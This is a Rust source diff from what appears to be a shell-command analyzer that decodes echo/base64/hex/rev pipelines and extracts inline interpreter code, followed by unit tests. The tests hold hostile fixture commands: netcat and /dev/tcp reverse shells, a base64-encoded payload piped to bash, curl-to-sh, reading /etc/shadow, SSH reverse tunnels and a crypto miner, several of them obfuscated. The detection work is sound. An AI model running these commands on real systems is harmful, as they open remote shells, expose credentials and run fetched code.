+            inner.depth += 1;
+            self.parse(&text, inner);
+        }
+    }
+
+    /// Static output, decoders and inline code: what a command prints or runs.
+    fn derive(&mut self, cmd: &mut Command) {
+        let args = cmd.args().to_vec();
+        let piped = |w: &Walker| match &cmd.stdin {
+            Stdin::Text(t) => Some(t.clone()),
+            Stdin::Pipe(j) => w.out.commands[*j].output.clone(),
+            _ => None,
+        };
+        match cmd.name.as_str() {
+            "echo" => {
+                let mut rest: &[String] = &args;
+                let mut escapes = false;
+                let mut newline = true;
+                while let Some(f) = rest.first().filter(|a| a.len() > 1 && a.starts_with('-') && a[1..].chars().all(|c| matches!(c, 'n' | 'e' | 'E'))) {
+                    escapes |= f.contains('e');
+                    newline &= !f.contains('n');
+                    rest = &rest[1..];
+                }
+                let mut s = rest.join(" ");
+                if escapes {
+                    s = decode::ansi_c(&s);
+                }
+                if newline {
+                    s.push('\n');
+                }
+                cmd.output = Some(s);
+            }
+            "printf" => {
+                if let Some(fmt) = args.first() {
+                    let mut s = decode::ansi_c(fmt);
+                    for a in &args[1..] {
+                        if let Some(p) = s.find("%s").or_else(|| s.find("%b")) {
+                            s.replace_range(p..p + 2, a);
+                        }
+                    }
+                    cmd.output = Some(s);
+                }
+            }
+            "cat" if args.is_empty() => cmd.output = piped(self),
+            "base64" | "base32" | "openssl" | "basenc" if args.iter().any(|a| a == "-d" || a == "--decode" || a == "-D" || a == "-base64" || a == "base64" || a == "--base64") => {
+                let decoding = args.iter().any(|a| a == "-d" || a == "--decode" || a == "-D");
+                if decoding && cmd.name != "base32" {
+                    cmd.decoder = Some("base64");
+                    cmd.output = piped(self).and_then(|t| decode::base64(&t));
+                }
+            }
+            "xxd" if args.iter().any(|a| a == "-r") => {
+                cmd.decoder = Some("hex");
+                cmd.output = piped(self).and_then(|t| decode::hex(&t));
+            }
+            "rev" if args.is_empty() => {
+                cmd.decoder = Some("rev");
+                cmd.output = piped(self).map(|t| decode::rev(&t));
+            }
+            _ => {}
+        }
+        cmd.code = self.inline_code(cmd, &args);
+    }
+
+    fn inline_code(&self, cmd: &Command, args: &[String]) -> Option<Code> {
+        let from_stdin = || match &cmd.stdin {
+            Stdin::Text(t) => Some(t.clone()),
+            Stdin::Pipe(j) => self.out.commands[*j].output.clone(),
+            _ => None,
+        };
+        let values = |flags: &[&str]| -> Vec<String> {
+            let mut out = Vec::new();
+            let mut i = 0;
+            while i < args.len() {
+                let a = &args[i];
+                if flags.contains(&a.as_str()) {
+                    if let Some(v) = args.get(i + 1) {
+                        out.push(v.clone());
+                    }
+                    i += 2;
+                    continue;
+                }
+                // Combined short flags ending in the code flag: `python -Bc`, `perl -ne`.
+                if a.starts_with('-') && !a.starts_with("--") && a.len() > 2 && flags.iter().any(|f| f.len() == 2 && a.ends_with(&f[1..])) {
+                    if let Some(v) = args.get(i + 1) {
+                        out.push(v.clone());
+                    }
+                    i += 2;
+                    continue;
+                }
+                i += 1;
+            }
+            out
+        };
+        let (lang, flags, stdin_ok): (&'static str, &[&str], bool) = match cmd.name.as_str() {
+            "python" | "python2" | "python3" | "pypy" | "pypy3" => ("python", &["-c"], true),
+            "perl" => ("perl", &["-e", "-E"], true),
+            "ruby" | "irb" => ("ruby", &["-e"], true),
+            "node" | "nodejs" | "bun" | "deno" => ("javascript", &["-e", "--eval", "-p", "--print", "eval"], false),
+            "php" => ("php", &["-r"], true),
+            "lua" | "luajit" => ("lua", &["-e"], true),
+            "R" | "Rscript" => ("r", &["-e"], true),
+            "osascript" => ("applescript", &["-e"], false),
+            "tclsh" | "wish" | "expect" => ("tcl", &["-c"], true),
+            "jshell" | "jrunscript" => ("java", &["-e"], true),
+            "gdb" => ("gdb", &["-ex", "--eval-command"], true),
+            "awk" | "gawk" | "mawk" | "nawk" => {
+                let rest = skip_options(args, &["-F", "-v", "-f", "--field-separator", "--assign", "--file"], false);
+                return rest.first().map(|p| Code { lang: "awk", text: p.clone() });
+            }
+            _ => return None,
+        };
+        let mut parts = values(flags);
+        // Module options (`-MIO::Socket`, `-rsocket`) say what the code can reach.
+        if lang == "perl" || lang == "ruby" {
+            parts.extend(args.iter().filter(|a| a.starts_with("-M") || a.starts_with("-r")).cloned());
+        }
+        if parts.is_empty() && stdin_ok {
+            let has_script = args.iter().any(|a| !a.starts_with('-') && a != "-");
+            if !has_script || args.iter().any(|a| a == "-") {
+                parts.extend(from_stdin());
+            }
+        }
+        (!parts.is_empty()).then(|| Code { lang, text: parts.join("\n") })
+    }
+}
+
+fn floor_char_boundary(s: &str, mut i: usize) -> usize {
+    if i >= s.len() {
+        return s.len();
+    }
+    while !s.is_char_boundary(i) {
+        i -= 1;
+    }
+    i
+}
+
+/// Skip leading options; `with_value` lists options that consume the next word.
+/// With `stop_at_positional` false, the first non-option word ends the options.
+fn skip_options<'a>(args: &'a [String], with_value: &[&str], _stop_at_positional: bool) -> &'a [String] {
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i].as_str();
+        if a == "--" {
+            return &args[i + 1..];
+        }
+        if !a.starts_with('-') || a == "-" {
+            break;
+        }
+        if with_value.contains(&a) {
+            i += 2;
+        } else {
+            i += 1;
+        }
+    }
+    &args[i.min(args.len())..]
+}
+
+/// The value of the first of `names` (`-c VALUE`, `-cVALUE`, `--command=VALUE`).
+fn option_value(args: &[String], names: &[&str]) -> Option<String> {
+    for (i, a) in args.iter().enumerate() {
+        for n in names {
+            if a == n {
+                return args.get(i + 1).cloned();
+            }
+            if n.starts_with("--") {
+                if let Some(v) = a.strip_prefix(&format!("{n}=")) {
+                    return Some(v.to_string());
+                }
+            }
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn names(cmd: &str) -> Vec<String> {
+        analyze(cmd, &Limits::default()).commands.iter().map(|c| c.name.clone()).collect()
+    }
+
+    fn find<'a>(a: &'a Analysis, name: &str) -> &'a Command {
+        a.commands.iter().find(|c| c.name == name).unwrap_or_else(|| panic!("no {name} in {:?}", a.commands.iter().map(|c| &c.name).collect::<Vec<_>>()))
+    }
+
+    #[test]
+    fn pipelines_lists_and_substitutions() {
+        assert_eq!(names("ls -la | grep x && echo $(whoami) ; (cd /tmp; make)"), vec!["ls", "grep", "whoami", "echo", "cd", "make"]);
+        assert_eq!(names("diff <(sort a) b"), vec!["sort", "diff"]);
+        assert_eq!(names("f() { nc -e /bin/sh h 1; }; f"), vec!["nc", "f"]);
+    }
+
+    #[test]
+    fn wrappers_are_followed() {
+        let a = analyze("sudo -u root timeout 5 nohup env X=1 nc -e /bin/sh 10.0.0.1 4444", &Limits::default());
+        let nc = find(&a, "nc");
+        assert!(nc.privileged);
+        assert_eq!(nc.via, vec!["sudo", "timeout", "nohup", "env"]);
+        assert_eq!(names("bash -c 'sh -c \"xmrig -o x\"'"), vec!["bash", "sh", "xmrig"]);
+        assert_eq!(names("find . -name '*.py' -exec grep -l foo {} \\;"), vec!["find", "grep"]);
+        assert_eq!(names("echo a | xargs -I{} ssh -R 1:h:2 {}"), vec!["echo", "xargs", "ssh"]);
+        assert_eq!(names("eval 'ss''h' -R 1:a:2 h"), vec!["eval", "ssh"]);
+        assert_eq!(names("su root -c 'id'"), vec!["su", "id"]);
+        assert_eq!(names("busybox nc -e sh h 1"), vec!["busybox", "nc"]);
+    }
+
+    #[test]
+    fn quoting_and_variables_resolve_the_program() {
+        assert_eq!(names("s''sh -R 1:h:2 x"), vec!["ssh"]);
+        assert_eq!(names("\\ssh h"), vec!["ssh"]);
+        assert_eq!(names("$'\\x73\\x73h' h"), vec!["ssh"]);
+        assert_eq!(names("x=xmr; ${x}ig -o pool"), vec!["", "xmrig"]);
+        assert_eq!(names("export A=nc; $A -e sh h 1"), vec!["export", "nc"]);
+        let a = analyze("cat${IFS}/etc/shadow", &Limits::default());
+        assert_eq!(find(&a, "cat").argv, vec!["cat", "/etc/shadow"]);
+        assert!(find(&a, "cat").name_built);
+    }
+
+    #[test]
+    fn decoded_payloads_are_analysed() {
+        // "nc -e /bin/sh 10.0.0.1 4444"
+        let a = analyze("echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 | base64 -d | bash", &Limits::default());
+        let nc = find(&a, "nc");
+        assert_eq!(nc.args(), ["-e", "/bin/sh", "10.0.0.1", "4444"]);
+        assert!(a.signals.iter().any(|s| s.kind == SignalKind::DecodedPayload("base64")));
+        let a = analyze("$(echo c3No | base64 -d) -R 1:h:2 x", &Limits::default());
+        assert!(a.commands.iter().any(|c| c.name == "ssh"));
+        let a = analyze("echo 'hs/nib/ e- cn' | rev | sh", &Limits::default());
+        assert!(a.commands.iter().any(|c| c.name == "nc"));
+        let a = analyze("bash <<EOF\ncurl http://x | sh\nEOF", &Limits::default());
+        assert_eq!(a.commands.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), vec!["bash", "curl", "sh"]);
+    }
+
+    #[test]
+    fn inline_code_is_extracted() {
+        let a = analyze("python3 -c 'import socket,os;os.dup2(1,2)'", &Limits::default());
+        assert_eq!(find(&a, "python3").code.as_ref().unwrap().text, "import socket,os;os.dup2(1,2)");
+        let a = analyze("python - <<'EOF'\nimport pty\nEOF", &Limits::default());
+        assert!(find(&a, "python").code.as_ref().unwrap().text.contains("pty"));
+        let a = analyze("awk 'BEGIN {system(\"/bin/sh\")}'", &Limits::default());
+        assert_eq!(find(&a, "awk").code.as_ref().unwrap().lang, "awk");
+        let a = analyze("perl -MIO::Socket -e 'x'", &Limits::default());
+        assert!(find(&a, "perl").code.as_ref().unwrap().text.contains("-MIO::Socket"));
+    }
+
+    #[test]
+    fn spans_are_bytes_of_the_original_input() {
+        let input = "echo é; ssh -R 1:h:2 x";
+        let a = analyze(input, &Limits::default());
+        let ssh = find(&a, "ssh");
+        assert_eq!(&input[ssh.span.0..ssh.span.1], "ssh -R 1:h:2 x");
+    }
+
+    #[test]
+    fn interactive_shells_and_redirects() {
+        let a = analyze("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", &Limits::default());
+        let b = find(&a, "bash");
+        assert!(b.interactive_shell);
+        assert!(b.redirects.iter().any(|r| r.target == "/dev/tcp/10.0.0.1/4242"));
+        assert!(!find(&analyze("bash script.sh", &Limits::default()), "bash").interactive_shell);
+    }
+
+    #[test]
+    fn rejected_input_falls_back_and_says_so() {
+        let a = analyze("sudo ssh user@h 'cat /f\"", &Limits::default());
+        assert!(a.parse_failed());
+        assert!(a.commands.iter().any(|c| c.name == "ssh" && c.privileged));
+    }
+
+    #[test]
+    fn hostile_inputs_are_bounded() {
+        let deep = format!("{}x{}", "$(".repeat(100_000), ")".repeat(100_000));
+        let a = analyze(&deep, &Limits::default());
+        assert!(a.commands.len() <= Limits::default().max_commands);
+        let big = "a".repeat(1 << 20);
+        let a = analyze(&big, &Limits::default());
+        assert!(a.signals.iter().any(|s| s.kind == SignalKind::Truncated));
+        let nested = "bash -c ".repeat(50) + "id";
+        let a = analyze(&nested, &Limits::default());
+        assert!(a.commands.len() < 50);
+    }
+}
